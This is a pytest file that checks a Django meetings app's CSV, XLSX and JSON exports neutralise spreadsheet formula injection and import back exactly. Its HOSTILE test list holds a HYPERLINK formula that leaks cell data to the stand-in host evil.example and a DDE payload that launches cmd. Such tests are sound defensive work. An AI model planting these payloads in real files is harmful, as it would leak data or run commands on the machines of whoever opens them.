"""The formats records travel in: exports safe to open in a spreadsheet, imports that read them back."""

import csv
import datetime
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from meetings.formats import FORMULA_START, neutralise, restore
from meetings.models import Meeting, MeetingCountry, Person
from meetings.views.lists import MeetingListView
from tests.factories import AttendanceFactory, MeetingFactory, OrganizationFactory, PersonFactory
from tests.test_import import build_world, confirm, empty_database, exported, upload

LEAK = '=HYPERLINK("https://evil.example/?leak="&A2,"Click")'
HOSTILE = [LEAK, "+44 20 7218 9000", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "'=already quoted", "''"]


def hostile_world():
    """Records as the forms leave them (the host and every delegation take part), with values
    that a spreadsheet would run as formulas."""
    ministry = OrganizationFactory(name="-Defence Staff", acronym="@DS", country="GB")
    for number, text in enumerate(HOSTILE):
        day = datetime.date(2024, 3, 1) + datetime.timedelta(days=number)
        meeting = MeetingFactory(title=text, summary=text, venue=text, start_date=day)
        person = PersonFactory(name=f"{text[:40]} {number}", title=text, organization=ministry)
        AttendanceFactory(meeting=meeting, person=person, title=text, organization=ministry)
        for code in ("KE", "GB"):
            MeetingCountry.objects.create(meeting=meeting, country=code)


def raw_export(client, url: str, fmt: str) -> bytes:
    response = client.get(url, {"export": fmt})
    return b"".join(response.streaming_content) if response.streaming else response.content


@given(st.text())
def test_neutralising_is_undone_exactly_and_leaves_no_formula(text):
    cell = neutralise(text)
    assert restore(cell) == text
    assert not cell or cell[0] not in FORMULA_START


@pytest.mark.django_db
class TestSpreadsheetExports:
    def test_csv_cells_that_would_run_as_formulas_start_with_an_apostrophe(self, editor_client):
        hostile_world()
        MeetingFactory(title="\tTabbed", summary="\rReturned")
        rows = list(csv.reader(io.StringIO(raw_export(editor_client, "/meetings/", "csv").decode())))
        cells = [cell for row in rows for cell in row]
        assert not [cell for cell in cells if cell and cell[0] in FORMULA_START]
        assert "'" + LEAK in cells and "'\tTabbed" in cells and "'\rReturned" in cells
        assert "''=already quoted" in cells and "''" not in cells and "'''" in cells
        people = list(csv.reader(io.StringIO(raw_export(editor_client, "/people/", "csv").decode())))
        assert "'-Defence Staff (@DS) · United Kingdom" in people[1]

    def test_csv_quotes_every_field_so_a_semicolon_splits_nothing(self, editor_client):
        MeetingFactory(title="Talks;=1+2")
        body = raw_export(editor_client, "/meetings/", "csv").decode()
        assert body.startswith('"Title","Date",') and '"Talks;=1+2"' in body

    def test_xlsx_cells_are_text_never_formulas(self, editor_client):
        hostile_world()
        sheet = load_workbook(io.BytesIO(raw_export(editor_client, "/meetings/", "xlsx"))).active
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        assert "'" + LEAK in [cell.value for cell in cells]

    def test_json_carries_the_values_as_stored(self, editor_client):
        hostile_world()
        titles = [row["Title"] for row in json.loads(raw_export(editor_client, "/meetings/", "json"))]
        assert sorted(titles) == sorted(HOSTILE)


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
@pytest.mark.parametrize("url", ["/meetings/", "/people/", "/organizations/"])
def test_hostile_values_travel_there_and_back_exactly(editor_client, url, fmt):
    hostile_world()
    titles = set(Meeting.objects.values_list("title", flat=True))
    names = set(Person.objects.values_list("name", flat=True))
    before = exported(editor_client, url, fmt)
    content = raw_export(editor_client, url, fmt)
    empty_database()
    response = upload(editor_client, content, name=f"export.{fmt}", create_topics="on")
    assert response.context["report"].errors == []
    confirm(editor_client, response)
    assert exported(editor_client, url, fmt) == before
    if url == "/meetings/":
        assert set(Meeting.objects.values_list("title", flat=True)) == titles
        assert set(Person.objects.values_list("name", flat=True)) == names


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_the_meeting_export_gives_the_tables_own_values(editor_client, monkeypatch, fmt):
    """The export reads values() queries, not table cells; both must give the same rows."""
    build_world()
    hostile_world()
    fast = exported(editor_client, "/meetings/", fmt)
    monkeypatch.setattr(MeetingListView, "export_builder", None)
    assert exported(editor_client, "/meetings/", fmt) == fast
    assert len(fast) == 2 + len(HOSTILE) + 1


@pytest.mark.django_db
def test_json_and_xlsx_exports_are_written_as_they_are_read(editor_client):
    MeetingFactory(title="Kenya–UK defence talks")
    for fmt in ("json", "xlsx"):
        response = editor_client.get("/meetings/", {"export": fmt})
        assert response.streaming and "attachment" in response["Content-Disposition"]
